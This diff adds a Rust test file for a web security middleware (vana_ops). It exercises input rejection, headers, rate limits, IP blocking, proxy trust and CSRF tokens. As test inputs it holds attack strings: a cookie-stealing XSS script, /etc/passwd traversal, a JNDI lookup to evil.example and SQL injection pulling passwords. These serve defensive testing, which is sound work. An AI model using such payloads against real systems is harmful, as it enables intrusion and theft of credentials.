@@ -1,0 +1,369 @@
+//! The HTTP layer in process: each step of the `http` section, driven through an axum router.
+
+#![cfg(feature = "http")]
+
+use std::net::SocketAddr;
+
+use axum::Router;
+use axum::body::Body;
+use axum::extract::ConnectInfo;
+use axum::http::{HeaderValue, Request, StatusCode, header};
+use axum::response::IntoResponse;
+use axum::routing::{get, post};
+use http_body_util::BodyExt;
+use tower::ServiceExt;
+use vana_ops::Ops;
+use vana_ops::config::{ConfigLoader, Document};
+
+fn ops_with(security_yaml: &str) -> Ops {
+    let loaded = ConfigLoader::new().document_str(Document::Security, "test", security_yaml).load().unwrap();
+    Ops::builder(loaded).install_logging(false).start_collector(false).build().unwrap()
+}
+
+fn app(ops: &Ops) -> Router {
+    Router::new()
+        .route("/items/{id}", get(|| async { "item" }))
+        .route("/echo", post(|body: String| async move { body }))
+        .route("/fail", get(|| async { StatusCode::INTERNAL_SERVER_ERROR }))
+        .route(
+            "/own-headers",
+            get(|| async {
+                ([(header::X_FRAME_OPTIONS, "SAMEORIGIN"), (header::SERVER, "leaky/1.0")], "x")
+                    .into_response()
+            }),
+        )
+        .layer(ops.http_layer().unwrap())
+}
+
+fn request(method: &str, uri: &str, from: &str) -> axum::http::request::Builder {
+    let peer: SocketAddr = format!("{from}:40000").parse().unwrap();
+    let mut builder = Request::builder().method(method).uri(uri);
+    builder.extensions_mut().unwrap().insert(ConnectInfo(peer));
+    builder
+}
+
+async fn send(app: &Router, request: Request<Body>) -> (StatusCode, axum::http::HeaderMap, String) {
+    let response = app.clone().oneshot(request).await.unwrap();
+    let (parts, body) = response.into_parts();
+    let bytes = body.collect().await.unwrap().to_bytes();
+    (parts.status, parts.headers, String::from_utf8_lossy(&bytes).into_owned())
+}
+
+const NO_CSRF: &str = "csrf_protection:\n  require_csrf: false\n";
+
+#[tokio::test]
+async fn a_clean_request_passes_with_every_header_and_is_measured_by_route_template() {
+    let ops = ops_with(NO_CSRF);
+    let app = app(&ops);
+    let incoming = request("GET", "/items/42?q=hello+world", "198.51.100.1")
+        .header("x-correlation-id", "req-1")
+        .body(Body::empty())
+        .unwrap();
+    let (status, headers, body) = send(&app, incoming).await;
+    assert_eq!((status, body.as_str()), (StatusCode::OK, "item"));
+    assert_eq!(headers["x-correlation-id"], "req-1");
+    assert_eq!(headers["x-ratelimit-limit"], "100");
+    assert_eq!(headers["x-ratelimit-remaining"], "9");
+    assert!(headers.contains_key("x-ratelimit-reset"));
+    assert_eq!(headers["x-content-type-options"], "nosniff");
+    assert_eq!(headers["x-frame-options"], "DENY");
+    assert_eq!(ops.monitor().total_recorded("response_time./items/{id}"), 1);
+    assert!(
+        ops.monitor().series_names().iter().all(|name| !name.contains("42")),
+        "raw paths never name a series"
+    );
+}
+
+#[tokio::test]
+async fn handler_headers_are_kept_and_revealing_ones_removed() {
+    let ops = ops_with(NO_CSRF);
+    let (_, headers, _) =
+        send(&app(&ops), request("GET", "/own-headers", "198.51.100.2").body(Body::empty()).unwrap()).await;
+    assert_eq!(headers["x-frame-options"], "SAMEORIGIN");
+    assert!(!headers.contains_key(header::SERVER));
+    assert_eq!(headers["referrer-policy"], "strict-origin-when-cross-origin");
+}
+
+#[tokio::test]
+async fn attacks_in_path_query_header_and_body_are_refused_without_echo_and_recorded() {
+    let ops = ops_with(NO_CSRF);
+    let app = app(&ops);
+    let payload = "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E";
+    let cases = [
+        (
+            request("GET", &format!("/items/1?q={payload}"), "198.51.100.101").body(Body::empty()).unwrap(),
+            "query",
+        ),
+        (
+            request("GET", "/items/..%2F..%2Fetc%2Fpasswd", "198.51.100.102").body(Body::empty()).unwrap(),
+            "path",
+        ),
+        (
+            request("GET", "/items/1", "198.51.100.103")
+                .header(header::USER_AGENT, "${jndi:ldap://evil.example/a}")
+                .body(Body::empty())
+                .unwrap(),
+            "header",
+        ),
+        (
+            request("POST", "/echo", "198.51.100.104")
+                .header(header::CONTENT_TYPE, "application/json")
+                .body(Body::from(r#"{"user":{"bio":"<img src=x onerror=alert(1)>"}}"#))
+                .unwrap(),
+            "body",
+        ),
+        (
+            request("POST", "/echo", "198.51.100.105")
+                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
+                .body(Body::from("name=bob&id=1%27%20OR%20%271%27%3D%271"))
+                .unwrap(),
+            "body",
+        ),
+    ];
+    // Each from its own address: critical ones block their source (auto_block_on_critical).
+    for (incoming, location) in cases {
+        let (status, headers, body) = send(&app, incoming).await;
+        assert_eq!(status, StatusCode::BAD_REQUEST, "{location}: {body}");
+        assert_eq!(headers[header::CONTENT_TYPE], "application/json");
+        let json: serde_json::Value = serde_json::from_str(&body).unwrap();
+        assert_eq!(json["error"], "input_rejected");
+        assert_eq!(json["location"], location);
+        assert!(!body.contains("script") && !body.contains("jndi") && !body.contains("onerror"), "{body}");
+    }
+    let events = ops.security().events().query(&Default::default());
+    assert!(events.iter().filter(|event| event.event_type == "input_rejected").count() >= 5);
+}
+
+#[tokio::test]
+async fn benign_bodies_of_every_kind_pass_and_reach_the_handler_intact() {
+    let ops = ops_with(NO_CSRF);
+    let app = app(&ops);
+    for (content_type, body) in [
+        ("application/json", r#"{"message":"Can you select the best option from these?"}"#),
+        ("application/x-www-form-urlencoded", "name=O%27Brien&city=Saint-%C3%89tienne"),
+        ("text/plain", "I'd like to order 2 items & a drink."),
+    ] {
+        let incoming = request("POST", "/echo", "198.51.100.4")
+            .header(header::CONTENT_TYPE, content_type)
+            .body(Body::from(body))
+            .unwrap();
+        let (status, _, echoed) = send(&app, incoming).await;
+        assert_eq!((status, echoed.as_str()), (StatusCode::OK, body), "{content_type}");
+    }
+}
+
+#[tokio::test]
+async fn oversized_bodies_get_413_whether_declared_or_streamed() {
+    let ops = ops_with("csrf_protection:\n  require_csrf: false\nhttp:\n  max_body_bytes: 100\n");
+    let app = app(&ops);
+    let declared = request("POST", "/echo", "198.51.100.5")
+        .header(header::CONTENT_TYPE, "text/plain")
+        .header(header::CONTENT_LENGTH, "101")
+        .body(Body::from("x".repeat(101)))
+        .unwrap();
+    assert_eq!(send(&app, declared).await.0, StatusCode::PAYLOAD_TOO_LARGE);
+    let stream = futures_stream(vec!["x".repeat(60), "y".repeat(60)]);
+    let streamed = request("POST", "/echo", "198.51.100.5")
+        .header(header::CONTENT_TYPE, "application/json")
+        .body(stream)
+        .unwrap();
+    assert_eq!(send(&app, streamed).await.0, StatusCode::PAYLOAD_TOO_LARGE);
+    let fits = request("POST", "/echo", "198.51.100.5").body(Body::from("z".repeat(100))).unwrap();
+    assert_eq!(send(&app, fits).await.0, StatusCode::OK);
+}
+
+/// A body of several chunks with no declared length.
+fn futures_stream(chunks: Vec<String>) -> Body {
+    Body::new(Chunks(chunks.into_iter().map(bytes::Bytes::from).collect()))
+}
+
+struct Chunks(std::collections::VecDeque<bytes::Bytes>);
+
+impl http_body::Body for Chunks {
+    type Data = bytes::Bytes;
+    type Error = std::convert::Infallible;
+
+    fn poll_frame(
+        mut self: std::pin::Pin<&mut Self>,
+        _cx: &mut std::task::Context<'_>,
+    ) -> std::task::Poll<Option<Result<http_body::Frame<bytes::Bytes>, Self::Error>>> {
+        std::task::Poll::Ready(self.0.pop_front().map(|chunk| Ok(http_body::Frame::data(chunk))))
+    }
+}
+
+#[tokio::test]
+async fn the_request_past_the_burst_gets_429_with_retry_after() {
+    let ops = ops_with("csrf_protection:\n  require_csrf: false\nrate_limiting:\n  burst_limit: 3\n");
+    let app = app(&ops);
+    let mut statuses = Vec::new();
+    for _ in 0..4 {
+        let (status, headers, _) =
+            send(&app, request("GET", "/items/1", "198.51.100.6").body(Body::empty()).unwrap()).await;
+        statuses.push((
+            status,
+            headers["x-ratelimit-remaining"].to_str().unwrap().to_owned(),
+            headers.get(header::RETRY_AFTER).cloned(),
+        ));
+    }
+    assert_eq!(statuses[0].1, "2");
+    assert_eq!(statuses[2], (StatusCode::OK, "0".into(), None));
+    assert_eq!(statuses[3].0, StatusCode::TOO_MANY_REQUESTS);
+    assert!(statuses[3].2.as_ref().is_some_and(|after| after.to_str().unwrap().parse::<u64>().unwrap() >= 1));
+    // Another client has its own budget.
+    assert_eq!(
+        send(&app, request("GET", "/items/1", "198.51.100.7").body(Body::empty()).unwrap()).await.0,
+        StatusCode::OK
+    );
+    assert_eq!(ops.security().events().query(&Default::default())[0].event_type, "rate_limited");
+}
+
+#[tokio::test]
+async fn blocked_addresses_get_403_and_a_critical_attack_blocks_its_source() {
+    let ops = ops_with(NO_CSRF);
+    let app = app(&ops);
+    ops.security().block_ip("203.0.113.9".parse().unwrap(), "test");
+    let (status, _, body) =
+        send(&app, request("GET", "/items/1", "203.0.113.9").body(Body::empty()).unwrap()).await;
+    assert_eq!(status, StatusCode::FORBIDDEN);
+    assert!(body.contains("address_blocked"));
+    // SQL injection is critical: the attacker is blocked for the next request (auto_block_on_critical).
+    let attack =
+        request("GET", "/items/1?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", "203.0.113.10");
+    assert_eq!(send(&app, attack.body(Body::empty()).unwrap()).await.0, StatusCode::BAD_REQUEST);
+    let again = request("GET", "/items/1", "203.0.113.10").body(Body::empty()).unwrap();
+    assert_eq!(send(&app, again).await.0, StatusCode::FORBIDDEN);
+    // The loopback is whitelisted: an attack from it is refused but never blocks it.
+    let local = request("GET", "/items/1?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", "127.0.0.1");
+    assert_eq!(send(&app, local.body(Body::empty()).unwrap()).await.0, StatusCode::BAD_REQUEST);
+    assert_eq!(
+        send(&app, request("GET", "/items/1", "127.0.0.1").body(Body::empty()).unwrap()).await.0,
+        StatusCode::OK
+    );
+}
+
+#[tokio::test]
+async fn trusted_proxies_name_the_client_from_the_forwarded_header() {
+    let ops = ops_with(
+        "csrf_protection:\n  require_csrf: false\nclient_address:\n  trusted_proxies: [\"10.0.0.0/8\"]\n",
+    );
+    let app = app(&ops);
+    ops.security().block_ip("203.0.113.20".parse().unwrap(), "test");
+    let via_proxy = request("GET", "/items/1", "10.1.2.3")
+        .header("x-forwarded-for", "203.0.113.20")
+        .body(Body::empty())
+        .unwrap();
+    assert_eq!(send(&app, via_proxy).await.0, StatusCode::FORBIDDEN);
+    // An untrusted peer cannot make itself someone else.
+    let spoofed = request("GET", "/items/1", "198.51.100.30")
+        .header("x-forwarded-for", "203.0.113.20")
+        .body(Body::empty())
+        .unwrap();
+    assert_eq!(send(&app, spoofed).await.0, StatusCode::OK);
+}
+
+#[tokio::test]
+async fn unsafe_methods_need_a_token_bound_to_the_session() {
+    let ops = ops_with("csrf_protection:\n  require_csrf: true\n");
+    let app = app(&ops);
+    let post = |token: Option<&str>, cookie: Option<&str>, form: bool| {
+        let mut builder = request("POST", "/echo", "198.51.100.40");
+        if let Some(cookie) = cookie {
+            builder = builder.header(header::COOKIE, cookie);
+        }
+        if let (Some(token), false) = (token, form) {
+            builder = builder.header("x-csrf-token", token);
+        }
+        match (token, form) {
+            (Some(token), true) => builder
+                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
+                .body(Body::from(format!("msg=hi&csrf_token={token}")))
+                .unwrap(),
+            _ => builder.body(Body::from("hi")).unwrap(),
+        }
+    };
+    let (status, _, body) = send(&app, post(None, None, false)).await;
+    assert_eq!(status, StatusCode::FORBIDDEN);
+    assert!(body.contains("csrf_token_invalid"));
+
+    let (status, headers, body) =
+        send(&app, request("GET", "/csrf-token", "198.51.100.40").body(Body::empty()).unwrap()).await;
+    assert_eq!(status, StatusCode::OK);
+    let set_cookie = headers[header::SET_COOKIE].to_str().unwrap();
+    assert!(set_cookie.contains("HttpOnly") && set_cookie.contains("SameSite=Strict"));
+    let cookie = set_cookie.split(';').next().unwrap();
+    let token: serde_json::Value = serde_json::from_str(&body).unwrap();
+    let token = token["token"].as_str().unwrap();
+
+    assert_eq!(send(&app, post(Some(token), Some(cookie), false)).await.0, StatusCode::OK);
+    assert_eq!(send(&app, post(Some(token), Some(cookie), true)).await.0, StatusCode::OK);
+    assert_eq!(
+        send(&app, post(Some(token), Some("vana_session=another"), false)).await.0,
+        StatusCode::FORBIDDEN
+    );
+    assert_eq!(send(&app, post(Some("v1.forged"), Some(cookie), false)).await.0, StatusCode::FORBIDDEN);
+    // A safe method never needs one.
+    assert_eq!(
+        send(&app, request("GET", "/items/1", "198.51.100.40").body(Body::empty()).unwrap()).await.0,
+        StatusCode::OK
+    );
+}
+
+#[tokio::test]
+async fn each_step_can_be_switched_off() {
+    let ops = ops_with(
+        "csrf_protection:\n  require_csrf: false\nhttp:\n  validate_input: false\n  security_headers: false\n  rate_limit: false\n  access_log: false\n",
+    );
+    let app = app(&ops);
+    let incoming = request("GET", "/items/1?q=%3Cscript%3Ex%3C%2Fscript%3E", "198.51.100.50")
+        .body(Body::empty())
+        .unwrap();
+    let (status, headers, _) = send(&app, incoming).await;
+    assert_eq!(status, StatusCode::OK);
+    assert!(!headers.contains_key("x-ratelimit-limit") && !headers.contains_key("x-frame-options"));
+    assert!(headers.contains_key("x-correlation-id"));
+    assert_eq!(ops.monitor().total_recorded("response_time./items/{id}"), 0);
+}
+
+#[tokio::test]
+async fn exempt_paths_skip_validation_only_there() {
+    let ops =
+        ops_with("csrf_protection:\n  require_csrf: false\nhttp:\n  validation_exempt_paths: [\"/echo\"]\n");
+    let app = app(&ops);
+    let code_question = request("POST", "/echo", "198.51.100.60")
+        .header(header::CONTENT_TYPE, "text/plain")
+        .body(Body::from("why does SELECT * FROM users WHERE id = 1 OR 1=1 return everything?"))
+        .unwrap();
+    assert_eq!(send(&app, code_question).await.0, StatusCode::OK);
+    let elsewhere =
+        request("GET", "/items/1?q=1%27%20OR%201%3D1--", "198.51.100.61").body(Body::empty()).unwrap();
+    assert_eq!(send(&app, elsewhere).await.0, StatusCode::BAD_REQUEST);
+}
+
+#[tokio::test]
+async fn server_errors_count_as_failures() {
+    let ops = ops_with(NO_CSRF);
+    let app = app(&ops);
+    for _ in 0..3 {
+        assert_eq!(
+            send(&app, request("GET", "/fail", "198.51.100.70").body(Body::empty()).unwrap()).await.0,
+            StatusCode::INTERNAL_SERVER_ERROR
+        );
+    }
+    let failed = ops.monitor().snapshot().into_iter().find(|series| {
+        &*series.name == "response_time./fail"
+            && series.tags.iter().any(|(k, v)| &**k == "success" && &**v == "false")
+    });
+    assert_eq!(failed.map(|series| series.count), Some(3));
+}
+
+#[tokio::test]
+async fn malformed_correlation_ids_are_replaced() {
+    let ops = ops_with(NO_CSRF);
+    let incoming = request("GET", "/items/1", "198.51.100.80")
+        .header("x-correlation-id", HeaderValue::from_static("has spaces in it"))
+        .body(Body::empty())
+        .unwrap();
+    let (_, headers, _) = send(&app(&ops), incoming).await;
+    let id = headers["x-correlation-id"].to_str().unwrap();
+    assert_eq!(id.len(), 36, "a generated UUID: {id}");
+}
